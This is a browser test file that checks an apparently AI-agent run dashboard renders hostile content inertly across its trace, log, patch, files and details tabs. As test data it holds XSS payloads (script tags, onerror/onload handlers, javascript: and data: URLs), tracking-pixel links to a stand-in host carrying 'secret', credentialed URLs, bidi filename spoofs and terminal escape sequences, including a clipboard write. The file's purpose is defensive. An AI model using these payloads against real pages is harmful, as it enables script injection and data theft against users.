/* What a box, a repository or a task says is text (bar A11): no script runs, nothing leaves the origin, nothing hides. */
import assert from 'node:assert/strict'
import { test, until, url } from './lib/harness.js'
import { aged, seedLog, seedRun } from './lib/runrows.js'
import { axe, noOverflow } from './lib/judge.js'

const HTML =
	'<script>window.__hit=1</script><img src=x onerror="window.__hit=2"><svg onload="window.__hit=3"><iframe src="javascript:window.__hit=4"></iframe>'
const MARKDOWN = `${HTML}\n\n[press](javascript:window.__hit=5) [data](data:text/html,<script>window.__hit=6</script>) <javascript:window.__hit=7>\n\n![tracker](https://evil.example/pixel.png?d=secret) ![](http://evil.example/x.svg)\n\n<a href="javascript:window.__hit=8">a</a>\n\n[good](https://example.com/docs) [looks good](https://user:pw@evil.example)\n\n| a |\n|---|\n| <img src=//evil.example/y.png> |`
const BIDI = 'invoice\u202Efdp.exe\u202C \u2066isolated\u2069 zero\u200Bwidth'
const ANSI =
	'\u001b[31mred\u001b[0m \u001b]8;;javascript:window.__hit=9\u0007link\u001b]8;;\u0007 \u001b]0;title\u0007\u001b[2J\u001b[1;1H\u001b[?1049h \u001b]52;c;ZXZpbA==\u0007 good\rbad'
const QUESTION = `${HTML}\n${BIDI}\n**not bold**`

const manyFiles = (n) =>
	Array.from(
		{ length: n },
		(_, i) =>
			`diff --git a/dir/f${i}.txt b/dir/f${i}.txt\nnew file mode 100644\n--- /dev/null\n+++ b/dir/f${i}.txt\n@@ -0,0 +1,2 @@\n+${i % 5 ? 'line' : HTML}\n+two\n`,
	).join('')
const ODD = `diff --git "a/<img src=x onerror=window.__hit=10>.c" "b/<img src=x onerror=window.__hit=10>.c"\nnew file mode 100644\n--- /dev/null\n+++ "b/<img src=x onerror=window.__hit=10>.c"\n@@ -0,0 +1,3 @@\n+${HTML}\n+${BIDI}\n+${'x'.repeat(1_000_000)}\n`

let name = ''
const hostile = () => {
	if (name) return name
	name = seedRun({
		title: `${HTML} ${BIDI}`,
		task: MARKDOWN,
		turns: [{ n: 1, age: 600, end: 100, state: 'asked', question: QUESTION }],
		rows: aged(
			[
				{ kind: 'say', text: MARKDOWN },
				{ kind: 'say', text: `${'> '.repeat(5000)}deep` },
				{ kind: 'say', text: '_a'.repeat(30_000) },
				{
					kind: 'tool',
					ref: 'a',
					text: `Bash: ${HTML}`,
					data: { tool: `Bash${BIDI}`, input: { command: HTML, extra: BIDI } },
				},
				{
					kind: 'result',
					ref: 'a',
					text: `${ANSI}\n${HTML}\n${'z'.repeat(100_000)}`,
					data: { is_error: true, exit_code: 1, duration_ms: 5 },
				},
				{ kind: 'error', text: HTML, data: { kind: 'api_error', status: 529 } },
				{ kind: 'system', text: HTML, data: { event: { type: HTML } } },
				{ kind: 'system', text: HTML },
				{ kind: 'question', ref: 'q1', text: QUESTION },
			],
			1,
			500,
		),
		patch: ODD + manyFiles(10_000),
		counts: { files: 10_001, added: 20_003, removed: 0 },
		files: [
			{ name: `${HTML.replace(/\//g, '_')}.md`, base64: Buffer.from(MARKDOWN).toString('base64') },
			{ name: 'page.html', base64: Buffer.from(HTML).toString('base64') },
			{
				name: 'x.svg',
				base64: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=11"/>`).toString(
					'base64',
				),
			},
		],
		egress: [
			{ age: 10, route: 'connect', target: `${BIDI}.example`, allowed: false, reason: HTML, up: 0, down: 0 },
		],
		calls: [{ age: 9, model: HTML, status: 200, in: 1, out: 1, ms: 5 }],
	})
	seedLog(
		name,
		200,
		`CASE i WHEN 20 THEN repeat('L', 900000) WHEN 21 THEN ${lit(ANSI)} WHEN 22 THEN ${lit(HTML)} WHEN 23 THEN ${lit(BIDI)} ELSE 'line ' || i END`,
	)
	return name
}
const lit = (s) => `convert_from(decode('${Buffer.from(s).toString('hex')}', 'hex'), 'UTF8')`

/* Nothing ran, nothing was made that could. The harness fails on requests to elsewhere and on policy reports. */
async function inert(page, what) {
	assert.equal(await page.evaluate(() => window.__hit), undefined, `${what}: a script ran`)
	const bad = await page.evaluate(() =>
		[...document.querySelectorAll('main *')]
			.filter(
				(e) =>
					['IFRAME', 'OBJECT', 'EMBED', 'SCRIPT'].includes(e.tagName) ||
					(e.tagName === 'IMG' && !e.src.startsWith('blob:')) ||
					[...e.attributes].some((a) => a.name.startsWith('on')) ||
					(e.tagName === 'A' && e.href && !/^(https?|mailto):/.test(e.href.baseVal ?? e.href)),
			)
			.map((e) => e.outerHTML.slice(0, 200)),
	)
	assert.deepEqual(bad, [], what)
}
/* No character that hides or turns text is in the page, but where it is data (addresses, copies). */
const nothingHides = async (page, what) => {
	const found = await page.evaluate(() => {
		const walk = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT)
		const out = []
		while (walk.nextNode())
			if (/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b]/.test(walk.currentNode.data))
				out.push(walk.currentNode.data.slice(0, 80))
		return out
	})
	assert.deepEqual(found, [], `hidden characters: ${what}`)
}

for (const size of ['phone', 'desktop'])
	for (const tab of ['', '/log', '/patch', '/files', '/details'])
		test(`hostile texts are text: ${tab.slice(1) || 'trace'}, ${size}`, async (t) => {
			const page = await t.page({ size })
			await page.goto(`${url}/dashboard/runs/${hostile()}${tab}`)
			await page
				.locator(
					{
						'': '.tool',
						'/log': '.log-row',
						'/patch': '.d-file',
						'/files': '.file',
						'/details': '.details .grid',
					}[tab],
				)
				.first()
				.waitFor()
			if (tab === '/files') {
				// each press turns the first of them into one that hides
				while (await page.locator('.file button', { hasText: 'Preview' }).count())
					await page.locator('.file button', { hasText: 'Preview' }).first().click()
				await page.locator('.file-preview').first().waitFor()
			}
			if (tab === '/patch' && size === 'desktop')
				assert.match(await page.locator('.patch-sum').textContent(), /10,001 files changed/)
			if (tab === '/log') {
				// the line of 900,000 characters is among these; it follows the end until it is told not to
				await page.evaluate(() => (document.querySelector('.log-scroll').scrollTop = 0))
				await page.locator('.log-row', { hasText: 'line 10' }).first().waitFor()
				await page.evaluate(() => (document.querySelector('.log-scroll').scrollTop = 300))
				await page.locator('.log-more').waitFor()
			}
			await new Promise((r) => setTimeout(r, 300))
			await inert(page, tab)
			await nothingHides(page, tab)
			await noOverflow(page, `hostile ${tab} ${size}`)
			assert((await page.evaluate(() => document.querySelectorAll('*').length)) < 6000, 'the page stays small')
			await axe(page, `hostile ${tab} ${size}`)
			await t.picture(page, `run-hostile${tab.replace('/', '-') || '-trace'}-${size}-light`)
		})

test('links of an agent say where they lead and go there in another tab, without this page', async (t) => {
	const page = await t.page()
	await page.goto(`${url}/dashboard/runs/${hostile()}`)
	const link = page.locator('.say a', { hasText: 'good' }).first()
	await link.waitFor()
	assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow')
	assert.equal(await link.getAttribute('target'), '_blank')
	assert.match(await link.textContent(), /example\.com/)
	assert.equal(await page.locator('.say a', { hasText: 'press' }).count(), 0)
	assert.equal(
		await page.locator('.say a', { hasText: 'looks good' }).count(),
		0,
		'an address with a name and a password is no link',
	)
	await until(async () => (await page.locator('.escape').count()) > 0, 'escapes are shown')
})
